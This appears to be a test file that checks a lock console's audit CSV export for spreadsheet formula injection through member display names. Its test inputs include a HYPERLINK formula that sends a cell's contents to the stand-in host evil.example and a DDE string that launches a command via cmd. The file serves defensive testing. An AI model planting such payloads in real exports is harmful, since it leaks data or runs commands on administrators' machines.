import assert from 'node:assert/strict';
import { resolve } from 'node:path';
import { describe, it } from 'node:test';
import { pathToFileURL } from 'node:url';
import { certify, execute, signed } from '../execute/support.js';
import { createUser } from '../helpers/factories.js';
import { claimLock, shareLock } from '../helpers/locks.js';
import { useService } from '../helpers/service.js';

/** What the console's export is made of (a .tsx module: imported as the browser bundle would, untyped here). */
interface AuditExport {
  lockRow(lockId: string, lockName: string): (entry: unknown) => { who: string };
  auditCsv(rows: unknown[]): string;
}
const { auditCsv, lockRow } = (await import(pathToFileURL(resolve('console/src/components/audit-table.tsx')).href)) as AuditExport;

/** Issue 27 point 7: a member's display name must not become a live formula in the administrator's spreadsheet. */
describe("the console's audit export (CSV formula injection)", () => {
  const t = useService();
  const formulas = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)'];

  for (const displayName of formulas) {
    it(`a member named ${JSON.stringify(displayName)} appears as text`, async () => {
      const admin = await createUser(t.api);
      const lock = await claimLock(t, admin, { name: 'Front door' });
      const member = await certify(t, await createUser(t.api, { displayName }));
      await shareLock(t, lock.id, admin, member.userId);
      // The member leaves: the entry's actor is the member, shown by their display name.
      assert.equal((await execute(t, member, lock.id, signed(member, lock.id, { type: 'REMOVE_USER', users: [member.userId] }))).status, 200);

      const log = await t.api.get(`/device/${lock.id}/log`, { token: admin.authToken, accept: 'application/vnd.latchkey.api-v3+json, application/json' });
      assert.equal(log.status, 200, log.text);
      const rows = (log.body as unknown[]).map(lockRow(lock.id, 'Front door'));
      assert.ok(rows.some((r) => r.who === displayName), 'the export holds the name');
      const cells = auditCsv(rows).split('\r\n').flatMap((line) => line.split(','));
      for (const cell of cells) assert.doesNotMatch(cell.replace(/^"/, ''), /^[=+\-@\t\r]/, `a formula cell: ${cell}`);
      assert.ok(cells.some((cell) => cell.replace(/^"/, '').startsWith(`'${displayName[0]}`)), 'the name is kept, as text');
    });
  }
});
